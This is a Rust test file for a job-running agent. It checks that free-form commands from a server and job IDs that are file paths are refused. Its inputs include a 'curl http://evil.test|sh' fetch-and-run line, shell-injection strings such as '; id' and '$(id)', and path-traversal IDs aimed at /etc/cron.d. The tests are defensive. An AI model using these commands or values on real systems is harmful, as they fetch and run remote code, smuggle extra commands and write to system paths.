//! DE-01, DE-03: what a server's job says it is, and what it wants run.

use airlock_tests::fakeglpi::Package;
use airlock_tests::managed::{Managed, TOUCH};
use serde_json::json;
use std::fs;
use std::os::unix::fs::PermissionsExt;

const UUID: &str = "6b02e835e4c90";

#[test]
fn de_01_a_free_command_does_not_run_whatever_comes_first_in_the_path() {
    for exec in ["curl http://evil.test|sh", "sh -c id", "touch {folder}/a; id", "touch {folder}/$(id)", "/bin/sh", ""]
    {
        let managed = Managed::new(TOUCH);
        let canary = managed.path("canary");
        let bin = managed.path("bin");
        fs::create_dir(&bin).unwrap();
        for name in ["curl", "sh", "id", "touch"] {
            let path = bin.join(name);
            fs::write(&path, format!("#!/bin/sh\n: > {}\n", canary.display())).unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        }
        let exec = exec.replace("{folder}", managed.folder.path().to_str().unwrap());
        managed.server.deploys(&Package::new(UUID).action(json!({"cmd": {"exec": exec}})));
        let mut command = managed.agent.command(&["run", "--json"]);
        command.env("PATH", format!("{}:/usr/bin:/bin", bin.display()));
        let output = command.output().unwrap();
        assert!(!canary.exists() && !managed.path("a").exists(), "{exec}: {output:?}");
        let lines = managed.server.told();
        assert!(lines.last().unwrap().contains("ko: "), "{exec}: {lines:?}");
        if !exec.is_empty() {
            assert!(
                lines.iter().any(|line| line.contains("refused: free command; ask the owner for a template")),
                "{exec}: {lines:?}"
            );
        }
    }
}

#[test]
fn de_01_twin_a_command_that_the_owner_spells_out_runs() {
    let managed = Managed::new(TOUCH);
    managed
        .server
        .deploys(&Package::new(UUID).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
    let told = managed.round();
    assert!(managed.path("a").exists(), "{told}");
    assert_eq!(managed.server.told().last().map(String::as_str), Some("ok: job successfully completed"));
}

#[test]
fn de_03_a_job_whose_name_is_a_path_is_not_done() {
    for uuid in ["../../../tmp/x", "/etc/cron.d/x", "6b02e835e4c90/../..", "..", "6b02e835e4c90\u{0}", "AAAAAAAA"] {
        let managed = Managed::new(TOUCH);
        managed
            .server
            .deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
        let told = managed.round();
        assert!(told["what"].as_str().unwrap().contains("without a uuid that is one"), "{uuid:?}: {told}");
        assert!(!managed.path("a").exists(), "{uuid:?}");
        let jobs = managed.state().join("servers/hq/jobs");
        let left = fs::read_dir(jobs).map_or(0, |entries| entries.count());
        assert_eq!((left, managed.server.told().len()), (0, 0), "{uuid:?}");
        assert_eq!(managed.agent.airlock.events("jobs refused").len(), 1, "{uuid:?}");
    }
}

#[test]
fn de_03_twin_names_as_servers_give_them_are_names() {
    for uuid in ["6b02e835e4c90", "0b6f2c1e-7d43-4b1e-9a55-0123456789ab"] {
        let managed = Managed::new(TOUCH);
        managed
            .server
            .deploys(&Package::new(uuid).action(json!({"cmd": {"exec": format!("touch {}", managed.text("a"))}})));
        managed.round();
        assert!(managed.path("a").exists(), "{uuid}");
    }
}
